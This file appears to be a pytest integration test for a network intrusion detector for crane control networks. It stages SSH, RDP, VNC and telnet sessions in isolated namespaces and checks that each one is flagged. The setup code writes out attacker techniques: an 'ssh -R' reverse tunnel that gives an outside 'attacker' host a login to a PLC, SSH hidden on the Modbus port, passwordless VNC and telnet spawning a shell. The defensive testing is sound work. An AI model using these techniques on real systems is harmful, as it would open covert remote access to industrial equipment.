"""Remote access made by real stacks, captured with tcpdump, judged by ``cranewatch analyze``.

The byte-literal tests (test_proto_remote.py, test_detect_remote_access.py) check the decoders
against the specs; here the bytes come from the programs attackers and field engineers use:

- OpenSSH: inbound on 443; a reverse tunnel ``ssh -R`` from the crane out over 443 (the
  attacker logs into the PLC back through it); out through the terminal's web proxy (HTTP
  CONNECT, tinyproxy); and dropbear, the embedded SSH server, hidden on the Modbus port 502;
- xrdp with FreeRDP's ``xfreerdp``: TLS + CredSSP on 443 from outside and out of the crane to
  a vendor's 3389, Standard RDP Security (``/sec:rdp``) from the EWS on 3389;
- TigerVNC's server with ``vncsnapshot``: no password on 5900, VNC auth on 8080 (an HTTP
  port), and reverse VNC (``vncconfig -connect``) to a vendor's listening viewer on 5500;
- GNU inetutils telnetd with its telnet client on 23 and on 2323.

Topology (namespaces ``cwrem-*``, created and removed here; tcpdump runs in the router on its
crane-side leg, so the capture is what a tap on the crane uplink would see):

    cwrem-crane 10.20.7.10 (plc: sshd, dropbear, telnetd, VNC on 8080),
                10.20.7.30 (cms: xrdp, VNC; the crane's connections out leave from it)
        │ 10.20.7.254
    cwrem-rt ── 198.51.100.1 ── cwrem-out 198.51.100.7 (attacker / vendor: sshd on 443,
        │                                    xrdp on 3389, listening VNC viewer on 5500)
        │ 10.20.0.254
    cwrem-term 10.20.0.50 (the EWS), 10.20.0.60 (web proxy on 3128)

Every expected value is independent of cranewatch: that a session ran comes from the
client's own output (the remote shell's answer, the tunnel's echo, the snapshot file,
FreeRDP's and dbclient's messages, the viewer's established connection), and the time a
session first shows itself is tshark's first payload frame of each side of that connection.
The whole module takes about 20 s (one capture, analysed once).
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from netns_helpers import Link, ip, remove_namespaces, route_through, stop, wait_listening

pytestmark = pytest.mark.root

REPO = Path(__file__).resolve().parents[1]
NS = {"crane": "cwrem-crane", "term": "cwrem-term", "out": "cwrem-out", "rt": "cwrem-rt"}
PLC, CMS, EWS, OUTSIDE = "10.20.7.10", "10.20.7.30", "10.20.0.50", "198.51.100.7"
PROXY = "10.20.0.60"  # the terminal's web proxy
TOOLS = ("tcpdump", "tshark", "socat", "ssh", "ssh-keygen", "/usr/sbin/sshd", "/usr/sbin/telnetd",
         "telnet", "Xtigervnc", "vncconfig", "vncsnapshot", "xtigervncviewer", "xrdp", "xfreerdp",
         "Xvfb", "dropbear", "dropbearkey", "dbclient", "tinyproxy", "vncpasswd")
SSH_OPTIONS = ("-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
               "-o", "BatchMode=yes", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5")


@dataclass(frozen=True)
class Session:
    """One remote-access session the test made: who, to where, and what the client saw."""

    name: str
    protocol: str
    client: str
    server: str
    port: int
    severity: str
    proof: str  # what the client printed or produced: the session really happened
    opening: str = ""  # tshark filter of the frames that open it, when not the first payloads


@dataclass
class Captured:
    pcap: Path
    sessions: list[Session]
    records: list[dict[str, Any]]

    def findings(self, category: str) -> list[dict[str, Any]]:
        return [r for r in self.records if r["type"] == "finding" and r["category"] == category]


def ns_cmd(ns: str, *cmd: str) -> list[str]:
    return ["ip", "netns", "exec", NS[ns], *cmd]


def build_topology() -> None:
    remove_namespaces(NS.values())  # leftovers of an interrupted run (only our own names)
    for name in NS.values():
        ip("netns", "add", name)
        # No IPv6 (router solicitations add noise) and no DNS: telnetd looks its peer up, and
        # a resolver that refuses on loopback answers at once and puts nothing on the wire.
        subprocess.run(["ip", "netns", "exec", name, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1",
                        "net.ipv6.conf.default.disable_ipv6=1"], check=True, capture_output=True)
        etc = Path("/etc/netns") / name  # ``ip netns exec`` binds these over /etc
        etc.mkdir(parents=True, exist_ok=True)
        (etc / "resolv.conf").write_text("nameserver 127.0.0.1\n")
    # the crane's own connections out leave from the CMS (the crane PC), not the PLC
    route_through(NS["rt"], [
        Link(NS["crane"], "cwrem-rc", "eth0", "10.20.7.254/24", (f"{PLC}/24", f"{CMS}/24"), CMS),
        Link(NS["term"], "cwrem-rtm", "eth0", "10.20.0.254/24", (f"{PROXY}/24", f"{EWS}/24"), EWS),
        Link(NS["out"], "cwrem-ro", "eth0", "198.51.100.1/24", (f"{OUTSIDE}/24",), OUTSIDE)])


def free_display() -> int:
    """A display number no X server holds. Not ``-displayfd``: X servers in different network
    namespaces do not see each other's abstract sockets, so two of them (or one and the
    host's own) could get the same number, and one's /tmp/.X11-unix socket replace the other's."""
    for number in range(90, 400):
        if not any(Path(p).exists() for p in (f"/tmp/.X11-unix/X{number}", f"/tmp/.X{number}-lock")):
            return number
    raise AssertionError("no free X display number")


def run_client(ns: str, argv: list[str], *, env: dict[str, str] | None = None) -> str:
    """Run a client in a namespace; it must succeed. Returns what it printed."""
    done = subprocess.run(ns_cmd(ns, *argv), capture_output=True, text=True, timeout=20, env=env)
    assert done.returncode == 0, f"{argv[0]} failed ({done.returncode}): {done.stderr[-2000:]}"
    return done.stdout


def telnet_script(host: str, port: int) -> list[str]:
    # The telnet client reads the keyboard from a pipe; the pauses let the server's prompt
    # and option negotiation come first, as when a person types.
    keys = "sleep 1; printf 'echo hoist-$((6*7))\\r\\n'; sleep 0.5; printf 'exit\\r\\n'; sleep 0.5"
    return ["sh", "-c", f"({keys}) | telnet {host} {port}"]


@pytest.fixture(scope="module")
def captured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Captured]:
    if os.geteuid() != 0:
        pytest.skip("needs root (network namespaces); CI runs as root")
    missing = [tool for tool in TOOLS if shutil.which(tool) is None]
    if missing:
        pytest.fail(f"{', '.join(missing)} not installed: run scripts/install-deps.sh")
    tmp = tmp_path_factory.mktemp("cwrem")
    build_topology()
    daemons: list[subprocess.Popen[bytes]] = []
    try:
        def start(ns: str, *cmd: str) -> None:
            with (tmp / f"{ns}-{len(daemons)}.log").open("wb") as log:
                daemons.append(subprocess.Popen(ns_cmd(ns, *cmd), stdout=log, stderr=log))

        def start_x(ns: str, server: str, *options: str) -> str:
            display = free_display()
            start(ns, server, f":{display}", "-nolisten", "tcp", *options)
            deadline = time.monotonic() + 15
            while not Path(f"/tmp/.X11-unix/X{display}").exists():
                assert time.monotonic() < deadline, f"{server} did not start"
                time.sleep(0.05)
            return f":{display}"

        # OpenSSH on the PLC (22, and 443 where a firewall lets "HTTPS" in) and outside on 443
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp / "hostkey")], check=True)
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp / "key")], check=True)
        shutil.copy(tmp / "key.pub", tmp / "authorized_keys")
        common = (f"HostKey {tmp / 'hostkey'}\nPidFile none\nUsePAM no\nPasswordAuthentication no\n"
                  f"StrictModes no\nAuthorizedKeysFile {tmp / 'authorized_keys'}\n")
        (tmp / "sshd_plc").write_text(f"ListenAddress {PLC}\nPort 22\nPort 443\n{common}")
        (tmp / "sshd_out").write_text(f"ListenAddress {OUTSIDE}\nPort 443\n{common}")
        Path("/run/sshd").mkdir(exist_ok=True)  # sshd's privilege-separation directory
        start("crane", "/usr/sbin/sshd", "-D", "-e", "-f", str(tmp / "sshd_plc"))
        start("out", "/usr/sbin/sshd", "-D", "-e", "-f", str(tmp / "sshd_out"))
        # telnetd is an inetd service: socat accepts and execs it on the socket (nofork)
        for port in (23, 2323):
            start("crane", "socat", f"TCP-LISTEN:{port},bind={PLC},reuseaddr,fork",
                  "EXEC:/usr/sbin/telnetd -h -E /bin/sh,nofork")
        # dropbear, the SSH server of embedded devices, hidden on the Modbus port
        subprocess.run(["dropbearkey", "-t", "ed25519", "-f", str(tmp / "dropbear_key")],
                       check=True, capture_output=True)
        start("crane", "dropbear", "-F", "-E", "-s", "-r", str(tmp / "dropbear_key"),
              "-P", str(tmp / "dropbear.pid"), "-p", f"{PLC}:502")
        # the terminal's web proxy, which lets CONNECT through to 443 (as for HTTPS)
        (tmp / "tinyproxy.conf").write_text(
            f"User nobody\nGroup nogroup\nPort 3128\nListen {PROXY}\nTimeout 60\n"
            "Allow 10.20.0.0/16\nConnectPort 443\nLogLevel Info\n")
        start("term", "tinyproxy", "-d", "-c", str(tmp / "tinyproxy.conf"))
        # TigerVNC's X server with its VNC front end: without a password on the CMS (as found
        # on HMIs), with one on 8080 of the PLC's panel (the vendor's)
        (tmp / "vncpasswd").write_bytes(subprocess.run(["vncpasswd", "-f"], input=b"hoist-07\n", check=True,
                                                       capture_output=True).stdout)
        displays = {port: start_x("crane", "Xtigervnc", "-rfbport", str(port), "-interface", addr,
                                  *security, "-geometry", "320x240", "-depth", "24")
                    for addr, port, security in (
                        (CMS, 5900, ("-SecurityTypes", "None")),
                        (PLC, 8080, ("-SecurityTypes", "VncAuth", "-PasswordFile", str(tmp / "vncpasswd"))))}
        # xrdp (its own packaged config and certificate) on the CMS, on 3389 and on 443, and
        # at the vendor outside
        for ns, ports in (("crane", f"tcp://{CMS}:3389 tcp://{CMS}:443"),
                          ("out", f"tcp://{OUTSIDE}:3389")):
            ini = Path("/etc/xrdp/xrdp.ini").read_text().replace("\nport=3389\n", f"\nport={ports}\n", 1)
            (tmp / f"xrdp-{ns}.ini").write_text(ini)
            Path("/run/xrdp/sockdir").mkdir(parents=True, exist_ok=True)
            start(ns, "xrdp", "--nodaemon", "--config", str(tmp / f"xrdp-{ns}.ini"))
        # FreeRDP's X11 client wants a display even for /auth-only; the vendor's listening
        # VNC viewer (for "reverse" VNC, the crane calling out) shows on it too
        displays[0] = start_x("term", "Xvfb", "-screen", "0", "640x480x24")
        with (tmp / "viewer.log").open("wb") as log:
            daemons.append(subprocess.Popen(
                ns_cmd("out", "xtigervncviewer", "-listen", "5500"), stdout=log, stderr=log,
                env={**os.environ, "DISPLAY": displays[0], "HOME": str(tmp)}))
        for ns, addr, port in (("crane", PLC, 22), ("crane", PLC, 443), ("out", OUTSIDE, 443),
                               ("crane", PLC, 23), ("crane", PLC, 2323), ("crane", CMS, 5900),
                               ("crane", PLC, 8080), ("crane", CMS, 3389), ("crane", CMS, 443),
                               ("out", OUTSIDE, 3389), ("out", OUTSIDE, 5500), ("crane", PLC, 502),
                               ("term", PROXY, 3128)):
            wait_listening(NS[ns], addr, port)

        pcap = tmp / "remote.pcap"
        tcpdump = subprocess.Popen(ns_cmd("rt", "tcpdump", "-i", "cwrem-rc", "-U", "-w", str(pcap)),
                                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        daemons.append(tcpdump)
        assert tcpdump.stderr is not None
        tcpdump.stderr.readline()  # "listening on cwrem-rc ...": the capture runs
        sessions = make_sessions(tmp, displays)
        time.sleep(0.5)  # the last FIN/ACKs
        tcpdump.send_signal(signal.SIGINT)
        tcpdump.communicate(timeout=10)
        done = subprocess.run([sys.executable, "-m", "cranewatch", "analyze", str(pcap), "--profile",
                               str(REPO / "profiles" / "sts-07.toml"), "--format", "jsonl"],
                              capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        yield Captured(pcap, sessions, [json.loads(line) for line in done.stdout.splitlines()])
    finally:
        stop(daemons)
        for daemon in daemons:
            if daemon.stderr is not None:
                daemon.stderr.close()
        remove_namespaces(NS.values())


def make_sessions(tmp: Path, displays: dict[int, str]) -> list[Session]:
    """Run every client once; return the sessions with the proof each client gave."""
    sessions = []
    ssh = [*SSH_OPTIONS, "-i", str(tmp / "key")]

    out = run_client("out", ["ssh", *ssh, "-p", "443", f"root@{PLC}", "echo plc-shell-$((6*7))"])
    sessions.append(Session("ssh-in-443", "ssh", OUTSIDE, PLC, 443, "critical", out))
    # The reverse tunnel: the CMS calls out to 443 and offers the PLC's sshd back through it;
    # outside, the attacker logs into the PLC over the tunnel (127.0.0.1:2222 there).
    inner = " ".join(["ssh", *ssh, "-p", "2222", "root@127.0.0.1", "echo through-the-tunnel"])
    out = run_client("crane", ["ssh", *ssh, "-b", CMS, "-o", "ExitOnForwardFailure=yes",
                               "-R", f"127.0.0.1:2222:{PLC}:22", "-p", "443", f"root@{OUTSIDE}", inner])
    sessions.append(Session("ssh-reverse-tunnel", "ssh", CMS, OUTSIDE, 443, "critical", out))

    # SSH out through the terminal's web proxy (HTTP CONNECT to 443), the way out of a LAN
    # that has no other
    proxied = [*ssh, "-o", f"ProxyCommand=socat - PROXY:{PROXY}:%h:%p,proxyport=3128"]
    out = run_client("crane", ["ssh", *proxied, "-p", "443", f"root@{OUTSIDE}", "echo via-the-proxy"])
    # the proxy is in the terminal zone, but it was asked to reach an outside host: critical
    sessions.append(Session("ssh-via-proxy", "ssh", CMS, PROXY, 3128, "critical", out,
                            opening='frame contains "SSH-2.0-"'))

    # embedded SSH on 502: a login attempt without a key the server knows
    attempt = subprocess.run(ns_cmd("term", "dbclient", "-y", "-y", "-T", "-p", "502", f"root@{PLC}", "true"),
                             capture_output=True, text=True, timeout=20, env={**os.environ, "HOME": str(tmp)})
    sessions.append(Session("ssh-dropbear-502", "ssh", EWS, PLC, 502, "high", attempt.stderr))

    rdp_env = {**os.environ, "DISPLAY": displays[0], "HOME": str(tmp)}  # FreeRDP's cert store
    for name, ns, client, server, port, severity in (
            ("rdp-443", "out", OUTSIDE, CMS, 443, "critical"),
            ("rdp-out-3389", "crane", CMS, OUTSIDE, 3389, "critical")):
        run_client(ns, ["xfreerdp", f"/v:{server}:{port}", "/u:engineer", "/p:not-the-password",
                        "/cert:ignore", "/auth-only"], env=rdp_env)
        sessions.append(Session(name, "rdp", client, server, port, severity, "xfreerdp exit 0"))
    # an old engineering workstation's Standard RDP Security (no TLS, RC4 keys exchanged in
    # the clear): without NLA there is nothing to "authenticate only"; xrdp shows its login
    # screen, FreeRDP hangs up
    old_rdp = subprocess.run(ns_cmd("term", "xfreerdp", f"/v:{CMS}:3389", "/u:engineer", "/sec:rdp",
                                    "/p:not-the-password", "/cert:ignore", "/auth-only"),
                             capture_output=True, text=True, timeout=20, env=rdp_env)
    sessions.append(Session("rdp-3389", "rdp", EWS, CMS, 3389, "high", old_rdp.stderr))

    for name, ns, client, server, port, severity in (
            ("vnc-5900", "term", EWS, CMS, 5900, "high"),
            ("vnc-8080", "out", OUTSIDE, PLC, 8080, "critical")):
        shot = tmp / f"{name}.jpg"
        # raw encoding: TigerVNC answers a blank screen's first update with an empty rectangle
        # under its default encodings, and vncsnapshot would wait for pixels that never come
        # vncsnapshot names a server by display (":0" is 5900) or by "::port" beyond them
        where = f"{server}:{port - 5900}" if 5900 <= port < 6000 else f"{server}::{port}"
        password = ["-passwd", str(tmp / "vncpasswd")] if port == 8080 else []
        run_client(ns, ["vncsnapshot", "-quiet", "-allowblank", "-encodings", "raw", *password, where,
                        str(shot)])
        sessions.append(Session(name, "vnc", client, server, port, severity,
                                f"{shot.stat().st_size} byte snapshot"))

    # reverse VNC: the crane's VNC server calls the vendor's listening viewer
    run_client("crane", ["vncconfig", "-display", displays[5900], "-connect", f"{OUTSIDE}::5500"])
    deadline = time.monotonic() + 10
    while not (established := subprocess.run(
            ns_cmd("out", "ss", "-Htn", "state", "established", "sport = :5500"),
            capture_output=True, text=True).stdout):
        assert time.monotonic() < deadline, "the VNC server did not call the viewer"
        time.sleep(0.05)
    time.sleep(1.0)  # the handshake and the first screen
    sessions.append(Session("vnc-reverse-5500", "vnc", CMS, OUTSIDE, 5500, "critical", established))

    for name, ns, client, port, severity in (("telnet-23", "term", EWS, 23, "high"),
                                              ("telnet-2323", "out", OUTSIDE, 2323, "critical")):
        out = run_client(ns, telnet_script(PLC, port))
        sessions.append(Session(name, "telnet", client, PLC, port, severity, out))
    return sessions


SESSIONS = ("ssh-in-443", "ssh-reverse-tunnel", "ssh-via-proxy", "ssh-dropbear-502", "rdp-443", "rdp-out-3389",
            "rdp-3389", "vnc-5900", "vnc-8080", "vnc-reverse-5500", "telnet-23", "telnet-2323")


def session(captured: Captured, name: str) -> Session:
    (found,) = [s for s in captured.sessions if s.name == name]
    return found


def opening_times(pcap: Path, s: Session) -> set[int]:
    """tshark's times (µs) of each side's first payload in the session's connection: the
    messages that open the handshake (version strings, banners, option negotiation)."""
    out = subprocess.run(
        ["tshark", "-r", str(pcap), "-Y",
         f"tcp.len>0 && ((ip.src=={s.client} && ip.dst=={s.server} && tcp.dstport=={s.port})"
         f" || (ip.src=={s.server} && ip.dst=={s.client} && tcp.srcport=={s.port}))"
         + (f" && ({s.opening})" if s.opening else ""),
         "-T", "fields", "-e", "ip.src", "-e", "frame.time_epoch"],
        capture_output=True, text=True, check=True).stdout.split("\n")
    first: dict[str, int] = {}
    for line in filter(None, out):
        src, epoch = line.split("\t")
        seconds, _, fraction = epoch.partition(".")
        first.setdefault(src, int(seconds) * 10**6 + int(fraction[:6].ljust(6, "0")))
    assert set(first) == {s.client, s.server}, f"{s.name}: payload from {sorted(first)} only"
    return set(first.values())


def micros(iso: str) -> int:
    moment = datetime.fromisoformat(iso.replace("Z", "+00:00"))
    return (moment - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(microseconds=1)


def test_the_clients_really_logged_in(captured: Captured) -> None:
    assert "plc-shell-42" in session(captured, "ssh-in-443").proof
    assert "through-the-tunnel" in session(captured, "ssh-reverse-tunnel").proof
    assert "via-the-proxy" in session(captured, "ssh-via-proxy").proof
    assert "hoist-42" in session(captured, "telnet-23").proof
    assert "hoist-42" in session(captured, "telnet-2323").proof
    # dbclient got as far as authentication: the SSH handshake was complete
    assert "No auth methods could be used" in session(captured, "ssh-dropbear-502").proof
    assert f"{CMS}:" in session(captured, "vnc-reverse-5500").proof
    assert "ERRINFO_LOGOFF_BY_USER" in session(captured, "rdp-3389").proof  # got a session
    assert [s.name for s in captured.sessions] == list(SESSIONS)


def test_every_session_is_identified_by_its_protocol_not_its_port(captured: Captured) -> None:
    flows = {r["protocol"]: r["flows"] for r in captured.records if r["type"] == "flow-summary"}
    # the tunnelled login is inside the outer SSH connection: not a connection on the wire
    assert {p: flows.get(p) for p in ("ssh", "rdp", "vnc", "telnet")} == {
        "ssh": 3, "rdp": 3, "vnc": 3, "telnet": 2}
    # 443, 8080 and 502 carried no TLS, HTTP or Modbus: the ports lied and identification saw
    # it; the one HTTP connection is the proxy's, its tunnel decoded as SSH
    assert not {"tls", "modbus"} & set(flows) and flows.get("http") == 1


@pytest.mark.parametrize("name", SESSIONS)
def test_each_session_is_one_remote_access_finding(captured: Captured, name: str) -> None:
    s = session(captured, name)
    findings = [f for f in captured.findings("remote-access")
                if f["src"] == s.client and f["dst"] == f"{s.server}:{s.port}"]
    assert len(findings) == 1, [f["title"] for f in captured.findings("remote-access")]
    (finding,) = findings
    assert finding["title"].startswith(f"{s.protocol.upper()} session")
    assert finding["severity"] == s.severity
    assert finding["count"] == 1
    (evidence,) = finding["evidence"]
    assert evidence["values"]["protocol"] == s.protocol
    # dated by the handshake's opening message of one side (the client's when the server's
    # takes more than one segment to complete, as RFB's version + security types)
    assert micros(finding["first_seen"]) in opening_times(captured.pcap, s)


def test_no_other_remote_access_is_reported(captured: Captured) -> None:
    assert len(captured.findings("remote-access")) == len(SESSIONS)


def test_sessions_out_of_the_crane_say_so_and_ssh_reads_as_a_reverse_tunnel(captured: Captured) -> None:
    outbound = {f["title"].split(" ", 1)[0]: f for f in captured.findings("remote-access")
                if f["src"] == CMS and f["dst"].startswith(OUTSIDE)}
    assert sorted(outbound) == ["RDP", "SSH", "VNC"]
    assert all("out of the crane zone" in f["title"] for f in outbound.values())
    assert "reverse tunnel" in outbound["SSH"]["title"]
    assert "reverse tunnel" not in outbound["RDP"]["title"] + outbound["VNC"]["title"]


def test_a_proxied_session_names_where_the_proxy_took_it(captured: Captured) -> None:
    (finding,) = [f for f in captured.findings("remote-access") if f["dst"] == f"{PROXY}:3128"]
    assert f"through the proxy to {OUTSIDE}:443" in finding["title"]
    assert finding["evidence"][0]["values"]["via_proxy_to"] == f"{OUTSIDE}:443"
    assert "T0822" in finding["technique"]  # external remote services: the far end is outside


def test_what_each_handshake_told(captured: Captured) -> None:
    details = {(f["src"], f["dst"]): " | ".join(f["evidence"][0]["values"]["detail"])
               for f in captured.findings("remote-access")}
    assert "OpenSSH_" in details[(OUTSIDE, f"{PLC}:443")]
    # FreeRDP puts the user name in the X.224 cookie and asks for TLS and CredSSP (NLA)
    assert "mstshash=engineer" in details[(EWS, f"{CMS}:3389")]
    assert "credssp" in details[(OUTSIDE, f"{CMS}:443")]
    assert "003.008" in details[(EWS, f"{CMS}:5900")]  # TigerVNC speaks RFB 3.8
    # inetutils telnetd opens with DO TERMINAL-TYPE and friends; the client answers WILL
    assert "terminal-type" in details[(EWS, f"{PLC}:23")]
    assert "dropbear_" in details[(EWS, f"{PLC}:502")]


class EventRecorder:
    """A pipeline sink that keeps the decoders' events."""

    def __init__(self) -> None:
        self.events: list[Any] = []

    def on_event(self, event: Any) -> None:
        self.events.append(event)

    def on_series(self, series: Any) -> None:
        pass

    def on_flow_end(self, flow: Any) -> None:
        pass

    def finish(self) -> list[Any]:
        return []


def test_the_decoders_read_each_real_handshake(captured: Captured) -> None:
    from cranewatch.pipeline import analyze

    recorder = EventRecorder()
    analyze([captured.pcap], sinks=[recorder])
    by_side: dict[tuple[str, int, str], Any] = {}
    for event in recorder.events:
        if event.kind.startswith(("remote_session_", "ssh_banner_")):
            server_port = event.dport if event.from_client else event.sport
            by_side[(event.src, server_port, event.kind)] = event
    # TigerVNC offers security type None (as configured); vncsnapshot answers with RFB 3.3
    assert by_side[(CMS, 5900, "remote_session_response")].security == ("none",)
    assert by_side[(EWS, 5900, "remote_session_request")].version == "003.003"
    # reverse VNC: the crane's server (the TCP client) offers None, the viewer picks it
    reverse = by_side[(CMS, 5500, "remote_session_request")]
    assert reverse.security == ("none",) and "reverse VNC" in reverse.detail
    assert by_side[(OUTSIDE, 5500, "remote_session_response")].security == ()
    # xrdp selects TLS for FreeRDP, who asked for TLS + CredSSP with the user in the cookie
    request = by_side[(OUTSIDE, 443, "remote_session_request")]
    assert request.user == "engineer" and request.security == ("tls", "credssp")
    assert by_side[(CMS, 443, "remote_session_response")].security == ("tls",)
    assert by_side[(PLC, 502, "ssh_banner_response")].software == "dropbear_2022.83"
    # FreeRDP's /sec:rdp asks for nothing but Standard RDP Security, and xrdp agrees
    assert by_side[(EWS, 3389, "remote_session_request")].security == ("rdp",)
    assert by_side[(CMS, 3389, "remote_session_response")].security == ("rdp",)
    # the PLC panel's VNC wants a password (RFB 3.3 with vncsnapshot: one type, VNC auth)
    assert by_side[(PLC, 8080, "remote_session_response")].security == ("vnc-auth",)
    assert by_side[(PLC, 23, "remote_session_response")].security[:3] == (
        "WILL authentication", "WILL encryption", "DO terminal-type")
